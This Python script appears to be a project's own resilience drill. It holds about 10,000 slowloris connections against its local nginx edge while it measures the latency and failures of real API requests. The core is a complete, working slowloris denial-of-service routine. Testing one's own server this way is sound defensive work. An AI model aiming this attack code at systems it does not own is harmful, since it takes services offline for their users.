#!/usr/bin/env python3
"""Edge drill: 10,000 idle connections (slowloris) while real requests are still served (issue #15).

    .venv/bin/python deploy/drills/slowloris.py [--edge 127.0.0.1:8080] [--connections 10000] [--seconds 90]

The attacker opens ``--connections`` connections to the edge and keeps them busy the slowloris way:
a request line and then one header line every 5 s, never the blank line that ends the headers. A
connection the edge drops is opened again at once, so the count stays at the target. Meanwhile a
probe sends a real request (``GET /api/v1/items?limit=5``: through nginx to an application server
and the database) every 0.5 s on a fresh connection and records its status and latency; the same
probe runs for ``--baseline`` seconds before the attack, for comparison.

Reported: connections held (reached, and at the end), how many the edge dropped (nginx's
``client_header_timeout``), the probe's p50/p99/max and failures before and during the attack.
Standard library only (asyncio); raises the open-files limit for itself. Exit status 1 when the
probe failed during the attack or its p99 exceeded 1 s.
"""

from __future__ import annotations

import argparse
import asyncio
import resource
import time


def pct(values: list[float], p: float) -> float:
    if not values:
        return float("nan")
    s = sorted(values)
    return s[min(len(s) - 1, max(0, round(p / 100 * (len(s) - 1))))]


class Attack:
    def __init__(self, host: str, port: int, target: int) -> None:
        self.host, self.port, self.target = host, port, target
        self.open = 0
        self.peak = 0
        self.dropped = 0
        self.refused = 0
        self.stop = False

    async def one(self, i: int) -> None:
        while not self.stop:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                self.refused += 1
                await asyncio.sleep(1)
                continue
            self.open += 1
            self.peak = max(self.peak, self.open)
            try:
                writer.write(f"GET /?slow={i} HTTP/1.1\r\nHost: {self.host}\r\n".encode())
                await writer.drain()
                k = 0
                while not self.stop:
                    # wait 5 s, or less if the edge closes on us
                    try:
                        await asyncio.wait_for(reader.read(1024), timeout=5)
                    except TimeoutError:
                        pass
                    else:  # the edge answered (408) or closed: dropped
                        raise ConnectionResetError
                    writer.write(f"X-Slow-{k}: {k}\r\n".encode())
                    await writer.drain()
                    k += 1
            except (ConnectionError, OSError):
                self.dropped += 1
            finally:
                self.open -= 1
                writer.close()


async def probe(host: str, port: int, seconds: float, out: list[tuple[float, int]]) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        started = time.perf_counter()
        status = 0
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout=10)
            writer.write(f"GET /api/v1/items?limit=5 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            await writer.drain()
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout=10)
            status = int(head.split(b" ", 2)[1])
            await asyncio.wait_for(reader.read(), timeout=10)
            writer.close()
        except (TimeoutError, OSError, asyncio.IncompleteReadError, ValueError):
            status = 0
        out.append((time.perf_counter() - started, status))
        await asyncio.sleep(0.5)


async def run(args: argparse.Namespace) -> int:
    host, port = args.edge.rsplit(":", 1)
    port_n = int(port)
    before: list[tuple[float, int]] = []
    await probe(host, port_n, args.baseline, before)
    attack = Attack(host, port_n, args.connections)
    tasks = []
    ramp_started = time.monotonic()
    for i in range(args.connections):
        tasks.append(asyncio.create_task(attack.one(i)))
        if i % 500 == 499:
            await asyncio.sleep(0.2)
    while attack.open < args.connections * 0.99 and time.monotonic() - ramp_started < 60:
        await asyncio.sleep(0.5)
    ramp = time.monotonic() - ramp_started
    during: list[tuple[float, int]] = []
    held: list[int] = []

    async def count() -> None:
        while not attack.stop:
            held.append(attack.open)
            await asyncio.sleep(1)

    counter = asyncio.create_task(count())
    await probe(host, port_n, args.seconds, during)
    held_at_end = attack.open
    attack.stop = True
    counter.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)

    def line(name: str, xs: list[tuple[float, int]]) -> str:
        ok = [t * 1000 for t, s in xs if s == 200]
        bad = [s for _t, s in xs if s != 200]
        return (f"| {name} | {len(xs)} | {len(ok)} | {pct(ok, 50):.0f} | {pct(ok, 99):.0f} | {max(ok, default=float('nan')):.0f} | "
                f"{len(bad)} {sorted(set(bad)) if bad else ''} |")

    print(f"## Slowloris drill ({time.strftime('%Y-%m-%d %H:%M:%S UTC', time.gmtime())}, load average "
          f"{open('/proc/loadavg').read().split()[0]})\n")
    print(f"target {args.connections} idle connections: {attack.peak} open at the peak (reached in {ramp:.0f} s), "
          f"{held_at_end} at the end; min/median held during the probe {min(held, default=0)}/{sorted(held)[len(held)//2] if held else 0}; "
          f"{attack.dropped} dropped by the edge and reopened; {attack.refused} connection attempts refused\n")
    print("| probe `GET /api/v1/items?limit=5` | requests | 200 | p50 ms | p99 ms | max ms | failed |")
    print("| --- | ---: | ---: | ---: | ---: | ---: | --- |")
    print(line(f"before ({args.baseline:.0f} s)", before))
    print(line(f"during ({args.seconds:.0f} s)", during))
    ok_during = [t for t, s in during if s == 200]
    good = len(ok_during) == len(during) and pct(ok_during, 99) < 1.0 and attack.peak >= args.connections * 0.99
    return 0 if good else 1


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--edge", default="127.0.0.1:8080")
    ap.add_argument("--connections", type=int, default=10000)
    ap.add_argument("--seconds", type=float, default=90)
    ap.add_argument("--baseline", type=float, default=20)
    args = ap.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 1024
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(want, soft), hard if hard > 0 else want), hard))
    return asyncio.run(run(args))


if __name__ == "__main__":
    raise SystemExit(main())
